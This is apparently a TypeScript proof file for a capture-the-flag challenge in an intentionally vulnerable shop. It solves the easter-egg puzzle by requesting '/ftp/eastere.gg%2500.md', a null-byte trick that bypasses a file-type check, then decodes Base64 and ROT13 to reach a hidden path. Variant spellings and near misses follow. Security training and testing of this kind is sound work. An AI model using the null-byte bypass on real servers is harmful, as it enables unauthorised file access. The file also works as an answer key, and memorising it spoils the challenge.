import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PATH = '/the/devs/are/so/funny/they/hid/an/easter/egg/within/the/easter/egg'
const BASE64 = /^[A-Za-z0-9+/]{60,}={0,2}$/m

/** Decodes ROT13. */
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (letter) => {
    const first = letter <= 'Z' ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first)
  })

/** Returns the text hidden in the egg file of the public folder: the path of the second egg in ROT13 and Base64. */
async function openFirstEgg(attacker: Attacker): Promise<string> {
  const [asNotice, asConfirmation] = await Promise.all(
    ['md', 'pdf'].map((ending) => attacker.get(`/ftp/eastere.gg%2500.${ending}`)),
  )
  const [hidden] = BASE64.exec(asNotice!.text) ?? BASE64.exec(asConfirmation!.text)!
  return hidden
}

const decoded = (hidden: string) => Buffer.from(hidden, 'base64').toString()
const open =
  (path: string): Attack =>
  (attacker) =>
    attacker.get(path)

export const proof = prove(challenge, {
  exploit: async (attacker) => attacker.get(rot13(decoded(await openFirstEgg(attacker)))),
  spellings: {
    'the path by itself': open(PATH),
    'in capitals': open(PATH.toUpperCase()),
    'with a slash at the end': open(`${PATH}/`),
    'with a query behind it': open(`${PATH}?egg=2`),
    'a letter in percent signs': open(PATH.replace('/egg', '/%65gg')),
    'every letter of a word in percent signs': open(PATH.replace('devs', '%64%65%76%73')),
    'as a program that reads JSON': (attacker) => attacker.get(PATH, { headers: { accept: 'application/json' } }),
    'as a customer': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get(PATH)
    },
  },
  nearMisses: {
    'the first egg alone': openFirstEgg,
    'the path under one layer': async (attacker) => attacker.get(decoded(await openFirstEgg(attacker))),
    'the letters turned over before the other layer is off': async (attacker) =>
      attacker.get(`/${rot13(await openFirstEgg(attacker)).replace(/(?<!=)=+$/, '')}`),
    'the text of the egg as a path': async (attacker) => attacker.get(`/${await openFirstEgg(attacker)}`),
    'the path up to the first egg': open(PATH.replace('/within/the/easter/egg', '')),
    'one word more': open(`${PATH}/egg`),
    'the path in the folder of the egg': open(`/ftp${PATH}`),
    'the path in the part of an address that is not sent': open(`/#${PATH}`),
    'sent there instead of asked for': (attacker) => attacker.post(PATH, {}),
  },
})
